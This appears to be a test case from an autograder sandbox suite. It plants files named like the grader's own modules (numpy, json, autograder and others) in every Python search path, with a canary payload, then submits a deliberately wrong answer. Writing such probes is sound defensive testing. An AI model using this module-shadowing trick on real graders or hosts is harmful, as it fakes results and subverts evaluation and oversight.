# ---
# attack: Leaves modules named like the grader's own in every folder that Python searches.
# class: 'module shadowing, sitecustomize, .pth'
# sandboxes: [namespaces]
# ---
# %% before="q1"
import os
import sys

code = "import os; os.environ['CANARY'] = 'shadowed'; raise SystemExit('HOLE shadowed')"
for folder in [*sys.path, ".", "/tmp", "<<COURSE>>", "<<HOST>>"]:
    for name in ("numpy", "torch", "otter", "autograder", "msgspec", "json", "canary_module"):
        try:
            with open(os.path.join(folder or ".", f"{name}.py"), "w") as file:
                file.write(code)
        except OSError:
            pass
sys.path.insert(0, os.getcwd())

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
